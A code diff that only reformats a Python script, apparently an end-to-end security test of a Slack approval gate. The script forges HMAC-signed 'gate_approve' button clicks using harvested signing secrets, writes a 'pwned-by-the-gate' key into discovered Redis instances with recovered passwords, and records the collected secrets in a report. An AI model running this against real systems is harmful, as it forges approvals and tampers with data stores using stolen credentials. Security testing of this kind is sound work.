@@ -77,22 +77,45 @@ redis_urls = set(re.findall(r"redis://[^\s\"']+", text))
 
 
 def click(secret: str, user: str, target: dict[str, str]) -> int:
-    payload = {"type": "block_actions", "api_app_id": "A0TEST", "token": "legacy",
-               "team": {"id": "T0TEST"}, "user": {"id": user, "username": user.lower()},
-               "container": {"type": "message", "message_ts": target["ts"],
-                             "channel_id": target["channel"]},
-               "channel": {"id": target["channel"]}, "message": {"ts": target["ts"]},
-               "trigger_id": f"{time.time_ns()}", "response_url": target["response_url"],
-               "actions": [{"action_id": "gate_approve", "block_id": "gate:qa",
-                            "value": json.dumps({"v": target["version"], "g": "qa"}),
-                            "type": "button"}]}
+    payload = {
+        "type": "block_actions",
+        "api_app_id": "A0TEST",
+        "token": "legacy",
+        "team": {"id": "T0TEST"},
+        "user": {"id": user, "username": user.lower()},
+        "container": {
+            "type": "message",
+            "message_ts": target["ts"],
+            "channel_id": target["channel"],
+        },
+        "channel": {"id": target["channel"]},
+        "message": {"ts": target["ts"]},
+        "trigger_id": f"{time.time_ns()}",
+        "response_url": target["response_url"],
+        "actions": [
+            {
+                "action_id": "gate_approve",
+                "block_id": "gate:qa",
+                "value": json.dumps({"v": target["version"], "g": "qa"}),
+                "type": "button",
+            }
+        ],
+    }
     body = urllib.parse.urlencode({"payload": json.dumps(payload)}).encode()
     ts = str(int(time.time()))
-    signature = "v0=" + hmac.new(secret.encode(), b"v0:" + ts.encode() + b":" + body,
-                                 hashlib.sha256).hexdigest()
-    request = urllib.request.Request(f"{BOT_URL}/slack/events", data=body, headers={
-        "X-Slack-Request-Timestamp": ts, "X-Slack-Signature": signature,
-        "Content-Type": "application/x-www-form-urlencoded"})
+    signature = (
+        "v0="
+        + hmac.new(secret.encode(), b"v0:" + ts.encode() + b":" + body, hashlib.sha256).hexdigest()
+    )
+    request = urllib.request.Request(
+        f"{BOT_URL}/slack/events",
+        data=body,
+        headers={
+            "X-Slack-Request-Timestamp": ts,
+            "X-Slack-Signature": signature,
+            "Content-Type": "application/x-www-form-urlencoded",
+        },
+    )
     try:
         return urllib.request.urlopen(request, timeout=5).status
     except OSError as exc:
@@ -108,8 +131,7 @@ def write_redis(url: str) -> str:
                 commands.append(["AUTH", urllib.parse.unquote(parts.password)])
             commands.append(["SET", "pwned-by-the-gate", "1"])
             for command in commands:
-                wire = f"*{len(command)}\r\n" + "".join(f"${len(c)}\r\n{c}\r\n"
-                                                       for c in command)
+                wire = f"*{len(command)}\r\n" + "".join(f"${len(c)}\r\n{c}\r\n" for c in command)
                 conn.sendall(wire.encode())
             return conn.recv(1000).decode(errors="replace")
     except (OSError, ValueError) as exc:
@@ -122,10 +144,22 @@ deadline = time.time() + 15
 while not target_file.exists() and time.time() < deadline:
     time.sleep(0.05)
 target = json.loads(target_file.read_text()) if target_file.exists() else None
-clicks = {secret[:4] + "…": [click(secret, user, target) for user in APPROVERS]
-          for secret in secrets} if target else {}
+clicks = (
+    {secret[:4] + "…": [click(secret, user, target) for user in APPROVERS] for secret in secrets}
+    if target
+    else {}
+)
 writes = {url: write_redis(url) for url in redis_urls}
-REPORT.joinpath("report.json").write_text(json.dumps({
-    "uid": os.getuid(), "harvest": harvest, "secrets": sorted(secrets),
-    "redis_urls": sorted(redis_urls), "clicks": clicks, "writes": writes}))
+REPORT.joinpath("report.json").write_text(
+    json.dumps(
+        {
+            "uid": os.getuid(),
+            "harvest": harvest,
+            "secrets": sorted(secrets),
+            "redis_urls": sorted(redis_urls),
+            "clicks": clicks,
+            "writes": writes,
+        }
+    )
+)
 print(f"e2e: {len(harvest)} places read, {len(secrets)} secrets, {len(redis_urls)} redis urls")
